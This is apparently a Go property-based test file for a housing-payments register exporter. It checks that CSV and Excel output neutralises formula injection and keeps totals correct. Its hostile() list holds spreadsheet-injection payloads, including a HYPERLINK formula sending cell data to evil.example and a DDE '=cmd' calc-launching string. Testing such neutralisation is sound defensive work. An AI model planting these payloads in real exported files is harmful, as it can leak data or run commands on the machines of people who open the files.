package register_test

import (
	"bytes"
	"errors"
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"dombot/internal/housing"
)

// hostile are texts that a program of tables would do something about.
func hostile() []string {
	return []string{
		`=HYPERLINK("http://evil.example/?"&A1;"счёт")`, "+7 (913) 000-00-00", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
		"\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "﹦1+1", `ООО "Рога; и копыта"`, `"`, `";=1+1;"`,
		"две\nстроки", "две\r\nстроки", "'=1", "00123", "1e5", "12,5", "\x00", "\xff\xfe", "\u202ereversed", "_x000D_=1", "\uffff", "", " ", ";", "=cmd|' /C calc'!A0",
	}
}

// oneLine is what a hostile text may be read back as.
func oneLine(s string) string {
	s = strings.ToValidUTF8(s, "\uFFFD")
	s = regexp.MustCompile(`[\pZ\p{Cc}\p{Cf}\x{FFFE}\x{FFFF}]`).ReplaceAllString(s, " ")
	return strings.Trim(s, " ")
}

// drawn is an entry with texts of anybody.
func drawn(t *rapid.T, i int) housing.PaymentEntry {
	text := rapid.OneOf(rapid.SampledFrom(hostile()), rapid.String())
	e := paid(text.Draw(t, "number"))
	e.Key = strconv.Itoa(i)
	e.At = time.Unix(rapid.Int64Range(1.7e9, 2.5e9).Draw(t, "at"), 0).In(time.FixedZone("", rapid.IntRange(2, 12).Draw(t, "zone")*3600))
	for _, s := range []*string{
		&e.External, &e.Account, &e.ELS, &e.IZHKU, &e.Document, &e.GISID, &e.Payee.Name, &e.Payee.BIK, &e.Payee.Account, &e.Payee.INN,
	} {
		*s = text.Draw(t, "text")
	}
	e.Sum, e.Shares = decimal.Zero, nil
	for range rapid.IntRange(1, 4).Draw(t, "shares") {
		sum := decimal.New(rapid.Int64Range(1, 99_999_999).Draw(t, "kopecks"), -2)
		e.Shares = append(e.Shares, housing.EntryShare{Kind: housing.ShareCharges, Service: text.Draw(t, "service"), Period: e.Period, Sum: sum})
		e.Sum = e.Sum.Add(sum)
	}
	e.Fee = decimal.New(rapid.Int64Range(0, 99_999).Draw(t, "fee"), -2)
	if rapid.Bool().Draw(t, "refund") {
		e = back(e)
	}
	return e
}

func drawnEntries(t *rapid.T) []housing.PaymentEntry {
	entries := make([]housing.PaymentEntry, rapid.IntRange(1, 8).Draw(t, "entries"))
	for i := range entries {
		entries[i] = drawn(t, i)
	}
	return entries
}

// TestTheTableIsReadBackAsItWasWritten reads CSV as a program would: the same
// values, and no field that Excel would calculate.
func TestTheTableIsReadBackAsItWasWritten(t *testing.T) {
	t.Parallel()
	number := regexp.MustCompile(`^-?\d+,\d\d$`)
	w := writer(t)
	rapid.Check(t, func(t *rapid.T) {
		entries := drawnEntries(t)
		var out bytes.Buffer
		totals, err := w.Table(&out, of(entries...))
		if err != nil {
			t.Fatal(err)
		}

		got := lines(t, out.Bytes())

		if len(got) != len(entries)+1 {
			t.Fatalf("%d lines for %d entries", len(got), len(entries))
		}
		sum, fee := decimal.Zero, decimal.Zero
		for i, e := range entries {
			line := got[i+1]
			for j, f := range line {
				if begins(f, "=+-@\t\r\n＝＋－＠") && !number.MatchString(f) {
					t.Fatalf("Excel would calculate %q of column %s", f, got[0][j])
				}
				line[j] = unquoted(f)
			}
			want := []string{
				e.At.Format("02.01.2006"), e.At.Format("15:04:05 -07:00"), line[2], oneLine(e.Number), oneLine(e.External),
				oneLine(e.Account), oneLine(e.ELS), oneLine(e.IZHKU), oneLine(e.Document), oneLine(e.GISID), "10.2026",
				oneLine(e.Payee.Name), oneLine(e.Payee.INN), oneLine(e.Payee.BIK), oneLine(e.Payee.Account), "Карта любого банка",
			}
			if !slices.Equal(line[:16], want) {
				t.Fatalf("read back\n%q, want\n%q", line[:16], want)
			}
			sum, fee = sum.Add(readRubles(t, line[16])), fee.Add(readRubles(t, line[17]))
		}
		if !sum.Equal(totals.Sum) || !fee.Equal(totals.Fee) {
			t.Errorf("lines add up to %s and %s, totals are %s and %s", sum, fee, totals.Sum, totals.Fee)
		}
	})
}

func begins(s, signs string) bool {
	first, _ := utf8.DecodeRuneInString(s)
	return s != "" && strings.ContainsRune(signs, first)
}

// unquoted takes away the apostrophe before what begins like a formula.
func unquoted(f string) string {
	if rest, ok := strings.CutPrefix(f, "'"); ok && begins(rest, "'=+-@＝＋－＠") {
		return rest
	}
	return f
}

func readRubles(t fataler, s string) decimal.Decimal {
	d, err := decimal.NewFromString(strings.ReplaceAll(s, ",", "."))
	if err != nil {
		t.Fatalf("%q is no sum: %v", s, err)
	}
	return d
}

func TestWorkbooksHoldTextsAndTotals(t *testing.T) {
	t.Parallel()
	w := writer(t)
	rapid.Check(t, func(t *rapid.T) {
		entries := drawnEntries(t)
		var out bytes.Buffer
		totals, err := w.Book(&out, of(entries...))
		if err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(&out)
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = f.Close() }()

		for sheet, columns := range map[string][]int{"Платежи": {17, 18}, "По услугам": {7}} {
			for i, column := range columns {
				sum, last := added(t, f, sheet, column)
				if !sum.Equal(last) || !last.Equal([]decimal.Decimal{totals.Sum, totals.Fee}[i]) {
					t.Errorf("%s, column %d: rows add up to %s, the last row says %s, totals are %s and %s",
						sheet, column, sum, last, totals.Sum, totals.Fee)
				}
			}
		}
		for i, e := range entries {
			at := fmt.Sprintf("L%d", i+2)
			formula, err := f.GetCellFormula("Платежи", at)
			value, err2 := f.GetCellValue("Платежи", at)
			if err != nil || err2 != nil || formula != "" || value != oneLine(e.Payee.Name) {
				t.Errorf("payee is %q (formula %q, %v %v), want %q", value, formula, err, err2, oneLine(e.Payee.Name))
			}
		}
	})
}

// added sums a column of a sheet and returns what its last row says.
func added(t *rapid.T, f *excelize.File, sheet string, column int) (sum, last decimal.Decimal) {
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1 : len(rows)-1] {
		sum = sum.Add(readRubles(t, row[column-1]))
	}
	return sum, readRubles(t, rows[len(rows)-1][column-1])
}

func TestASheetThatIsFullIsRefusedInWords(t *testing.T) {
	t.Parallel()
	w := writer(t)
	for _, tt := range []struct {
		rows int
		ok   bool
	}{{8, true}, {7, false}, {5, false}, {4, false}} { // two entries of three shares: 2 and 6 rows, a head and totals
		w.MaxRows = tt.rows

		_, err := w.Book(&bytes.Buffer{}, of(paid("1"), paid("2")))

		known, _ := errors.AsType[*housing.Error](err)
		if (err == nil) != tt.ok || !tt.ok && (known == nil || known.Text != "register.too_long") {
			t.Errorf("%d rows: error is %v", tt.rows, err)
		}
	}
}
